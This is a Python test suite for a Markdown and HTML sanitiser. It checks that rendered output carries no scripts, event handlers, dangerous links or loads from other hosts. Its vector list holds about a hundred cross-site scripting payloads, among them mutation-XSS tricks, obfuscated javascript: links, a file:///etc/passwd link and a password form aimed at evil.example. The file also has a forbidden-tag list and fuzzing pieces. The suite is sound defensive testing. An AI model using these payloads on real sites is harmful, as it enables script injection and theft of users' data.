"""Hostile Markdown and HTML come out inert, and from other hosts nothing is loaded."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings, strategies as st
from typing_extensions import override

from strata.lib.markdown.addresses import AddressKind
from strata.lib.markdown.render import MAX_CHARACTERS, TooLong, render
from strata.lib.markdown.sanitise import sanitise

VECTORS = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)" onload='x' ONCLICK=y>
<img/src=x/onerror=alert(1)>
<img src=`x` onerror=alert(1)>
<img src="javascript:alert(1)">
<img src="data:image/svg+xml;base64,PHN2Zy8+">
<img src="https://evil.example/pixel.gif">
<img src="//evil.example/pixel.gif">
<img src="/\\evil.example/pixel.gif">
<img src="\\\\evil.example\\pixel.gif">
<img src="/a.png" srcset="https://evil.example/x.png 2x">
<img src="/a.png" srcset="/b.png 1x, //evil.example/x.png 2x">
<img src="ht\ntps://evil.example/a.gif">
<svg onload=alert(1)></svg>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="https://evil.example/x.swf">
<applet code=x></applet>
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>body{background:url(https://evil.example/x)}</style>
<div style="background:url(https://evil.example/x)">x</div>
<div style="position:fixed;inset:0">x</div>
<body onload=alert(1)>
<body background="https://evil.example/x.png">
<table background="https://evil.example/x.png"><tr><td background=//evil.example/x>x
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="\u200bjavascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="blob:https://x/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="//evil.example/x" target=_blank ping="https://evil.example/p">x</a>
<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>
<form action="https://evil.example"><input name=password></form>
<form><button formaction="javascript:alert(1)">x</button></form>
<input type=text value=x autofocus onfocus=alert(1)>
<input type="image" src="https://evil.example/x.png">
<textarea><script>alert(1)</script></textarea>
<select onchange=alert(1)><option>x</option></select>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src="https://evil.example/v.mp4" autoplay onerror=alert(1)></video>
<video poster="https://evil.example/p.png" src="/v.mp4"></video>
<video><source src="https://evil.example/v.mp4" onerror=alert(1)></video>
<audio src="//evil.example/a.mp3" autoplay></audio>
<picture><source srcset="https://evil.example/a.webp"><img src="/a.png"></picture>
<marquee onstart=alert(1)>x</marquee>
<p id="strata-main">x</p>
<img name=cookie id=STRATA-csrf src="/a.png">
<b class="button button-primary">Log In</b>
<template><img src=x onerror=alert(1)></template>
<xmp><script>alert(1)</script></xmp>
<title><img src=x onerror=alert(1)></title>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
[x](javascript:alert(1))
[x](JAVASCRIPT&colon;alert(1))
[x](<javascript:alert(1)>)
[x][r]\n\n[r]: javascript:alert(1)
![x](javascript:alert(1))
![x](https://evil.example/x.png)
![x](//evil.example/x.png)
![x](https://evil.example/x.png"onerror="alert(1))
<javascript:alert(1)>
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](/a"onmouseover="alert(1))
```"><script>alert(1)</script>\nx\n```
```python\n</code></pre><script>alert(1)</script>\n```
`<img src=x onerror=alert(1)>`
# <img src=x onerror=alert(1)>
[^1]\n\n[^1]: <script>alert(1)</script>
[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x
> [!NOTE]\n> <script>alert(1)</script>
| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |
- [ ] <img src=x onerror=alert(1)>
https://x.example/"onmouseover="alert(1)
<https://x.example/"onmouseover="alert(1)>
""".splitlines()

LOADING = {("img", "src"), ("img", "srcset"), ("source", "src"), ("source", "srcset"),
           ("video", "src"), ("video", "poster"), ("audio", "src")}  # fmt: skip
FORBIDDEN_TAGS = [
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "form",
    "textarea",
    "select",
    "button",
    "link",
    "meta",
    "base",
    "template",
    "noscript",
    "applet",
    "marquee",
    "body",
]


class Inspector(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.complaints: list[str] = []

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.complaints.append(f"<{tag}>")
        for name, text in attrs:
            self.judge(tag, name, text or "")

    def judge(self, tag: str, name: str, text: str) -> None:
        if name.startswith("on") or name in ("style", "srcdoc", "ping", "name", "action", "target"):
            self.complaints.append(f"{tag} {name}")
        if (tag, name) in LOADING and any(
            not part.strip().startswith("/") or part.strip()[1:2] in ("/", "\\")
            for part in text.split(",")
        ):
            self.complaints.append(f"{tag} loads {text!r}")
        if name == "href" and not text.startswith(("http://", "https://", "mailto:", "/", "#")):
            self.complaints.append(f"{tag} leads to {text!r}")
        if name == "id" and text.lower().startswith("strata-"):
            self.complaints.append(f"id {text!r}")
        if name == "class" and "button" in text:
            self.complaints.append(f"class {text!r}")


def complaints(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.complaints


def resolve(address: str, _kind: AddressKind) -> str:
    """Resolve as a repo page does: relative ones below the repo, the rest as they are."""
    return address if ":" in address or address.startswith("/") else f"/o/r/resolve/main/{address}"


def careless(address: str, _kind: AddressKind) -> str:
    return address


def test_there_are_enough_vectors() -> None:
    assert len(VECTORS) >= 60


def test_the_inspector_would_see_an_attack() -> None:
    attack = '<script></script><a href="javascript:x" onclick=y><img src=//e/x style=z>'

    assert len(complaints(attack)) == 5


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("resolver", [resolve, careless])
def test_an_attack_is_inert(vector: str, resolver: object) -> None:
    chosen = careless if resolver is careless else resolve
    text = vector.replace("\\n", "\n").replace("\\t", "\t").replace("\\\\", "\\")

    assert complaints(render(text, resolve_link=chosen).html) == []
    assert complaints(sanitise(text, chosen)) == []


def test_a_resolver_cannot_lead_out_by_mistake() -> None:
    def hostile(_address: str, kind: AddressKind) -> str:
        return "javascript:alert(1)" if kind is AddressKind.LINK else "https://evil.example/x"

    html = render("[a](b) ![c](d) <video src=e></video>", resolve_link=hostile).html

    assert complaints(html) == []


PIECES = st.sampled_from(
    [
        *"<>\"'`/\\=&;:#()[]!*_~|- \n\t\x00",
        "<img src=", "<a href=", "onerror=", "javascript:", "data:", "//evil.example/",
        "https://",         "<svg>", "<math>", "<style>", "</style>", "<p", "<table>", "<!--",
        "-->", "<![CDATA[", "]]>",         "```", "srcset=", "id=strata-x", "style=", "<noscript>",
        "<template>", "</a>", "x", "&#106;",
    ]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES | st.text(max_size=4), max_size=40).map("".join))
def test_no_mixture_gets_through(text: str) -> None:
    assert complaints(render(text, resolve_link=careless).html) == []
    assert complaints(sanitise(text, careless)) == []


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES | st.text(max_size=4), max_size=40).map("".join))
def test_sanitising_twice_changes_nothing_dangerous(text: str) -> None:
    once = sanitise(text, careless)

    assert complaints(sanitise(once, careless)) == []


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "![",
        "*a ",
        "<!--",
        "<div>",
        "http://(",
        "http:",
        "<b id=x><p>",
        "> ",
        "a@",
        "`",
        "[a](b",
    ],
)
def test_repeated_marks_take_bounded_time(unit: str) -> None:
    text = unit * (60_000 // len(unit))
    started = time.process_time()

    render(text, resolve_link=resolve)

    assert time.process_time() - started < 4


def test_a_text_too_long_to_show_is_refused() -> None:
    with pytest.raises(TooLong, match=str(MAX_CHARACTERS)):
        render("a" * (MAX_CHARACTERS + 1), resolve_link=resolve)
